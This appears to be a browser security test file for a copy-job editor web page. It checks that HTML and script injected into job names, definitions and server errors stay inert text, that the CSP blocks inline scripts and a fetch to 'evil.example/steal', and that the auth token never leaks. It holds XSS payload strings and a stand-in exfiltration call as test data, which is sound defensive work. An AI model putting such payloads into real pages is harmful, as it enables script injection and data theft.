// The page under hostile input, in headless Chromium against `copyjob serve`: HTML and script in
// a definition's keys and values, in display names, in server error bodies and headers, all shown
// as inert text (editor, problems panel, lint hover, diff, error panel, jobs list, request log);
// the Content-Security-Policy blocking an injected inline script and inline handler; the token
// kept out of storage, URLs, the request log, the console and the page's text in every flow; a
// 429 storm and a never-ending long-running operation stopping with a clear message.
// Written against the page's DOM (ids and visible text), not its modules.
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import {
  TOKEN,
  browser,
  chromiumPath,
  openEditor,
  screenshot,
  serve,
  signInWithToken,
  skipUnlessCI,
  waitMessage,
} from "./helpers.mjs";

const skip = existsSync(chromiumPath) ? false : skipUnlessCI(`${chromiumPath} is missing (apt-get install chromium)`);
const FAST = ["--job-queued-ms", "300", "--job-running-ms", "1500", "--retry-after", "0", "--lro-queued-ms", "100", "--lro-running-ms", "200"];

// Each payload, if it ever ran, would count itself in window.__pwned.
const IMG = `<img src=x onerror="window.__pwned=(window.__pwned||0)+1">`;
const SCRIPT = `<script>window.__pwned=(window.__pwned||0)+1</script>`;
const SVG = `<svg onload="window.__pwned=(window.__pwned||0)+1"></svg>`;

/** Records every CSP violation from the first script on (before the page's own). */
const recordViolations = (page) =>
  page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      window.__violations.push({ directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample }),
    );
  });

let chrome;
before(async () => {
  if (!skip) chrome = await browser();
});
after(async () => {
  await chrome?.close();
});

async function withServer(flags, fn, { beforeLoad } = {}) {
  const server = await serve(flags);
  const ctx = await openEditor(chrome.context, server.url, {
    beforeLoad: async (page) => {
      await recordViolations(page);
      await beforeLoad?.(page);
    },
  });
  try {
    await signInWithToken(ctx.page);
    await fn({ ...ctx, server });
    await assertInert(ctx.page);
    await assertTokenNotLeaked(ctx);
    assert.deepEqual(ctx.pageErrors, []);
  } catch (e) {
    await screenshot(ctx.page, `hostile-failure-${Date.now()}.png`).catch(() => {});
    throw e;
  } finally {
    await ctx.page.close();
    await server.stop();
  }
}

/** Nothing injected ran or was parsed into elements. */
async function assertInert(page) {
  const state = await page.evaluate(() => ({
    pwned: window.__pwned,
    imgs: document.querySelectorAll("img").length,
    svgs: document.querySelectorAll("body svg[onload]").length,
    handlers: document.querySelectorAll("[onerror], [onload]").length,
    inlineScripts: [...document.scripts].filter((s) => !s.src).map((s) => s.textContent),
  }));
  assert.deepEqual(state, { pwned: undefined, imgs: 0, svgs: 0, handlers: 0, inlineScripts: [] });
}

async function assertTokenNotLeaked({ page, consoleLines, requests }) {
  const seen = await page.evaluate(() => {
    const dump = (s) => Array.from({ length: s.length }, (_, i) => `${s.key(i)}=${s.getItem(s.key(i))}`).join("\n");
    return { local: dump(localStorage), session: dump(sessionStorage), url: location.href, text: document.body.innerText, html: document.documentElement.outerHTML };
  });
  assert.ok(!seen.local.includes(TOKEN), "the token is in localStorage");
  assert.ok(!seen.session.includes(TOKEN), "the token is in sessionStorage without the user asking");
  assert.ok(!seen.url.includes(TOKEN), "the token is in the page URL");
  assert.ok(!seen.text.includes(TOKEN), "the token is in the page's text");
  assert.ok(!seen.html.includes(TOKEN), "the token is in the page's markup");
  assert.ok(requests.length > 0);
  for (const url of requests) assert.ok(!url.includes(TOKEN), `the token is in a request URL: ${url}`);
  for (const line of consoleLines) assert.ok(!line.includes(TOKEN), `the token is in the console: ${line}`);
  assert.ok(!(await page.textContent("#log")).includes(TOKEN), "the token is in the request log");
}

const json = (v) => JSON.stringify(v, null, 2);

describe("the page under hostile input", { skip }, () => {
  test("HTML and script in a definition's keys and values stay text everywhere", async () => {
    await withServer(FAST, async ({ page }) => {
      // A copy job whose name is markup, created through the page.
      await page.fill("#new-name", IMG);
      await page.click("#create");
      await waitMessage(page, `Created ${IMG}`);
      await page.click("#list");
      await waitMessage(page, "Listed 1 copy jobs");
      assert.equal(await page.textContent("#jobs li .name"), IMG);
      await page.click("#jobs li");
      assert.ok((await page.textContent("#selected")).startsWith(IMG));

      // A definition with markup in keys and values, opened as files.
      const content = json({
        properties: { jobMode: IMG, [SCRIPT]: SVG },
        activities: [{ id: SVG, properties: { source: {}, destination: { [IMG]: SCRIPT } } }],
      });
      const platform = json({ metadata: { type: "CopyJob", displayName: SCRIPT, description: IMG }, config: { version: "2.0", logicalId: SVG } });
      await page.setInputFiles("#open-files", [
        { name: "copyjob-content.json", mimeType: "application/json", buffer: Buffer.from(content) },
        { name: ".platform", mimeType: "application/json", buffer: Buffer.from(platform) },
      ]);
      await waitMessage(page, "Opened copyjob-content.json, .platform");

      // The editor shows the text as typed.
      const esc = (t) => JSON.stringify(t).slice(1, -1);
      await page.waitForFunction((t) => document.querySelector(".cm-content").textContent.includes(t), esc(IMG));
      const editor = await page.textContent(".cm-content");
      for (const s of [IMG, SCRIPT, SVG]) assert.ok(editor.includes(esc(s)), s);

      // The problems panel names the markup as text.
      await page.waitForSelector("#problems tbody tr[data-code='schema/invalid-value']");
      const messages = await page.$$eval("#problems tbody tr", (rows) => rows.map((r) => r.textContent));
      const quoted = (m, t) => m.includes(t) || m.includes(esc(t));
      assert.ok(messages.some((m) => quoted(m, IMG)), messages.join("\n"));
      assert.ok(messages.some((m) => quoted(m, SVG)), messages.join("\n"));

      // The lint hover on the squiggle says it as text.
      await page.waitForSelector(".cm-lintRange-error");
      const box = await page.evaluate(() => {
        const r = document.querySelector(".cm-lintRange-error").getBoundingClientRect();
        return { x: r.left + Math.min(10, r.width / 2), y: (r.top + r.bottom) / 2 };
      });
      await page.mouse.move(box.x, box.y);
      await page.waitForSelector(".cm-tooltip-lint");
      assert.match(await page.textContent(".cm-tooltip-lint"), /<img src=x onerror=|<script>|<svg onload=/);
      await assertInert(page);
      await page.mouse.move(5, 5);

      // The diff before updateDefinition shows the markup as text.
      await page.check("#force");
      await page.click("#update-definition");
      await page.waitForSelector("#diff-dialog[open]");
      const diff = await page.textContent("#diff");
      assert.ok(diff.includes(esc(SCRIPT)), diff);
      assert.ok(diff.includes(esc(IMG)), diff);
      await assertInert(page);
      await screenshot(page, "hostile-diff.png");

      // The service rejects it; its diagnostics, quoting the markup, are text in the error panel.
      await page.click("#diff-confirm");
      await waitMessage(page, /failed$/);
      const details = await page.textContent("#error-details");
      assert.match(details, /"<img src=x onerror=/);
      await screenshot(page, "hostile-error-details.png");
    });
  });

  test("a server error body and headers carrying HTML are shown as text", async () => {
    await withServer(FAST, async ({ page }) => {
      const body = `<!doctype html><html><body><h1>Bad gateway</h1>${IMG}${SCRIPT}${SVG}</body></html>`;
      await page.route("**/v1/workspaces/*/copyJobs*", (route) =>
        route.fulfill({ status: 502, headers: { "content-type": "text/html", requestid: IMG }, body }),
      );
      await page.click("#list");
      await waitMessage(page, "Listing copy jobs failed");
      assert.equal(await page.textContent("#error-code"), "HTTP502");
      assert.equal(await page.textContent("#error-message"), body);
      assert.equal(await page.textContent("#error-request-id"), IMG);
      assert.match(await page.textContent("#log"), /GET \/v1\/workspaces\/[^ ]+\/copyJobs → 502 {2}RequestId <img src=x onerror=/);

      // A JSON error whose fields are markup.
      await page.unroute("**/v1/workspaces/*/copyJobs*");
      await page.route("**/v1/workspaces/*/copyJobs*", (route) =>
        route.fulfill({
          status: 400,
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ errorCode: SVG, message: IMG, requestId: SCRIPT, moreDetails: [{ errorCode: IMG, message: SCRIPT }] }),
        }),
      );
      await page.click("#list");
      await waitMessage(page, "Listing copy jobs failed");
      assert.equal(await page.textContent("#error-code"), SVG);
      assert.equal(await page.textContent("#error-message"), IMG);
      assert.equal(await page.textContent("#error-request-id"), SCRIPT);
      assert.ok((await page.textContent("#error-details")).includes(`${IMG} ${SCRIPT}`));
      await screenshot(page, "hostile-server-error.png");
    });
  });

  test("the Content-Security-Policy blocks an injected inline script and inline handler", async () => {
    await withServer(FAST, async ({ page }) => {
      // The page itself causes no violation.
      assert.deepEqual(await page.evaluate(() => window.__violations), []);
      const caught = await page.evaluate(async () => {
        const event = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
        const s = document.createElement("script");
        s.textContent = "window.__inline = 1";
        document.body.append(s);
        const e = await event;
        s.remove();
        return { directive: e.violatedDirective, blocked: e.blockedURI, disposition: e.disposition, ran: window.__inline };
      });
      assert.deepEqual(caught, { directive: "script-src-elem", blocked: "inline", disposition: "enforce", ran: undefined });

      // An inline event handler (what an HTML injection would rely on) is blocked too.
      const handler = await page.evaluate(async () => {
        const event = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
        const div = document.createElement("div");
        div.innerHTML = '<img src="data:," onerror="window.__handler = 1" onload="window.__handler = 1">';
        document.body.append(div);
        const e = await event;
        div.remove();
        return { directive: e.violatedDirective, ran: window.__handler };
      });
      assert.deepEqual(handler, { directive: "script-src-attr", ran: undefined });

      // Connections go nowhere but the allowed origins.
      const connect = await page.evaluate(async () => {
        const event = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
        fetch("https://evil.example/steal").catch(() => {});
        const e = await event;
        return { directive: e.violatedDirective, blocked: e.blockedURI };
      });
      assert.deepEqual(connect, { directive: "connect-src", blocked: "https://evil.example/steal" });
      const directives = new Set((await page.evaluate(() => window.__violations)).map((v) => v.directive));
      assert.deepEqual([...directives].sort(), ["connect-src", "script-src-attr", "script-src-elem"]);
    });
  });

  test("a 429 storm stops after a bounded number of retries with a clear message", async () => {
    await withServer([...FAST, "--throttle-every", "1", "--throttle-retry-after", "1"], async ({ page }) => {
      await page.click("#list");
      await waitMessage(page, "Listing copy jobs failed", 30000);
      assert.equal(await page.textContent("#error-code"), "RequestBlocked");
      assert.match(await page.textContent("#error-message"), /^Still throttled after 5 retries, giving up: /);
      const lines = (await page.$$eval("#log li", (els) => els.map((e) => e.textContent))).filter((l) => / → 429/.test(l));
      assert.equal(lines.length, 6, lines.join("\n"));
      assert.equal(lines.filter((l) => /\(throttled, retrying in 1 s\)/.test(l)).length, 5);
      await screenshot(page, "hostile-429-storm.png");
    });
  });

  test("a never-ending operation stops after a bounded time with a clear message", async () => {
    const flags = ["--lro", "async", "--lro-queued-ms", "0", "--lro-running-ms", "86400000", "--retry-after", "0"];
    await withServer(
      flags,
      async ({ page }) => {
        await page.fill("#new-name", "Forever");
        await page.click("#create");
        await waitMessage(page, "Creating Forever: Running");
        // Ten minutes pass (on the page's clock): the page stops polling and says why.
        await page.clock.fastForward("10:01");
        await waitMessage(page, "Creating Forever failed");
        assert.equal(await page.textContent("#error-code"), "OperationTimedOut");
        assert.match(await page.textContent("#error-message"), /has not finished after 10 min \(last state: Running\); stopped waiting/);
        const polls = await page.$$eval("#log li", (els) => els.filter((e) => /GET \/v1\/operations\//.test(e.textContent)).length);
        assert.ok(polls >= 1);
        // And no more polls follow.
        await page.clock.fastForward("05:00");
        await page.waitForTimeout(300);
        const after = await page.$$eval("#log li", (els) => els.filter((e) => /GET \/v1\/operations\//.test(e.textContent)).length);
        assert.equal(after, polls);
        await screenshot(page, "hostile-never-ending-operation.png");
      },
      { beforeLoad: (page) => page.clock.install() },
    );
  });
});
